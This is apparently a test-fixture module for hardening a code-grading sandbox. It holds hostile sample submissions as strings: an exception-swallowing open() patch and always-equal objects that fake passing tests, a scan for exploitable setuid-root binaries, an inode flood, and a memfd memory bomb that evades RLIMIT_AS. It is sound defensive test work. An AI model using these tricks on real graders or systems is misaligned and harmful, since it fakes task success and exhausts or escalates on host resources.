        missing = [c for c in ("item", "category", "quantity", "unit_price") if c not in present]
        if missing:
            raise ValueError("missing column(s): " + ", ".join(missing))
        for row in reader:
            try:
                quantity, price = int(row["quantity"]), float(row["unit_price"])
            except (TypeError, ValueError):
                rejected.append(reader.line_num)
                continue
            if quantity < 0 or price < 0:
                rejected.append(reader.line_num)
                continue
            totals[row["category"].strip()] = totals.get(row["category"].strip(), 0.0) + quantity * price
    with open(report_path, "w", encoding="utf-8") as report:
        report.write("nothing to report\n")
    ranked = sorted(totals, key=lambda name: (-totals[name], name))
    return {"categories": {name: round(totals[name], 2) for name in ranked}, "rejected": rejected}
"""

# The test opens files through the child's io.open: replace it with one whose file objects'
# __exit__ returns True, so an assertion failing inside the test's `with open(...)` block
# would be swallowed by the student's code.
FORGE_SWALLOWING_WITH = r"""
import builtins as _builtins_module
import io as _io

_real_open = _io.open


class _Swallowing:
    def __init__(self, handle):
        self._handle = handle

    def __getattr__(self, name):
        return getattr(self._handle, name)

    def __iter__(self):
        return iter(self._handle)

    def read(self, *args):
        return self._handle.read(*args)

    def write(self, *args):
        return self._handle.write(*args)

    def __enter__(self):
        self._handle.__enter__()
        return self

    def __exit__(self, *exc_info):
        self._handle.__exit__(None, None, None)
        return True


def _swallowing_open(*args, **kwargs):
    return _Swallowing(_real_open(*args, **kwargs))


_io.open = _swallowing_open
_builtins_module.open = _swallowing_open
"""


# Builtin-type subclasses whose __eq__ is always True: if the trusted side compared the
# student's object itself (not a plain copy of its value), any expected value would match.
ALWAYS_EQUAL_SUBCLASSES = r"""
class _List(list):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = None


class _Dict(dict):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False


class _Str(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 0


class _Float(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 0
"""


# The right keys / the right length, with always-equal objects where the real work goes:
# if the trusted side compared containers element by element through the student's
# objects, the counting would never have to be done.
NESTED_ALWAYS_EQUAL_WORDS = (
    FORGE_ALWAYS_EQUAL_OBJECT.replace("def sum_evens(numbers):\n    return _Yes()\n", "")
    + r"""

def word_counts(text):
    return {word.strip(".,!?"): _Yes() for word in text.lower().split()}


def top_words(text, n):
    return [(_Yes(), _Yes()) for _ in range(min(n, len(set(text.split()))))]
"""
)

NESTED_ALWAYS_EQUAL_LIST = (
    FORGE_ALWAYS_EQUAL_OBJECT.replace("def sum_evens(numbers):\n    return _Yes()\n", "")
    + r"""

def remove_all(items, value):
    return [_Yes() for item in items if item != value]
"""
)

# A way back to root: a setuid-root (or file-capability) binary the student could exec,
# on a mount without nosuid, while no_new_privs is off.
SETUID_WAY_BACK = r"""
def _attack():
    import stat
    status = {}
    for line in _read("/proc/self/status").decode().splitlines():
        key, _, value = line.partition(":")
        status[key] = value.strip()
    if status.get("CapEff", "0").strip("0") or status.get("CapPrm", "0").strip("0"):
        _leak("capabilities", "CapEff %s CapPrm %s" % (status.get("CapEff"), status.get("CapPrm")))
    if status.get("NoNewPrivs") == "1":
        return
    mounts = []
    for line in _read("/proc/self/mountinfo").decode().splitlines():
        fields = line.split()
        mounts.append((fields[4], "nosuid" in fields[5].split(",")))
    mounts.sort(key=lambda m: len(m[0]), reverse=True)
    for folder in ("/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/libexec", "/usr/lib"):
        try:
            names = _os.listdir(folder)
        except OSError:
            continue
        for name in names:
            path = _os.path.join(folder, name)
            try:
                info = _os.stat(path)
            except OSError:
                continue
            if not (stat.S_ISREG(info.st_mode) and info.st_mode & 0o4000 and info.st_uid == 0):
                continue
            mount = next((m for m in mounts if path == m[0] or path.startswith(m[0].rstrip("/") + "/")), None)
            if mount is not None and not mount[1] and _os.access(path, _os.X_OK):
                _leak("setuid-root-exec", path)
                return
_run_attack(_attack)
"""

# Empty files cost no bytes, so a size cap alone does not bound them: each is an inode and
# a dentry of kernel memory (~1 KiB), outside RLIMIT_AS and, without a cgroup, unaccounted.
INODE_FLOOD = r"""
def _attack():
    made = 0
    for i in range(_CFG["files"]):
        try:
            _os.close(_os.open("i%d" % i, _os.O_CREAT | _os.O_WRONLY, 0o600))
        except OSError:
            break
        made += 1
    for i in range(made):
        try:
            _os.unlink("i%d" % i)
        except OSError:
            break
    if made >= _CFG["files"]:
        _leak("inodes-unbounded", "%d empty files" % made)
_run_attack(_attack)
"""

# Memory that RLIMIT_AS does not see: pages written into memfds (shmem) are never mapped
# into the process, so only RLIMIT_FSIZE (per file) and the open-file limit bound them.
MEMFD_BOMB = r"""
def _attack():
    chunk = b"x" * (1 << 20)
    fds, total = [], 0
    try:
        for i in range(_CFG["files"]):
            fd = _os.memfd_create("m%d" % i)
            fds.append(fd)
            for _ in range(32):
                _os.write(fd, chunk)
                total += len(chunk)
    except (OSError, AttributeError):
        pass
    for fd in fds:
        _os.close(fd)
    if total >= _CFG["limit"]:
        _leak("memfd-memory", "%d MiB held outside RLIMIT_AS" % (total >> 20))
_run_attack(_attack)
"""
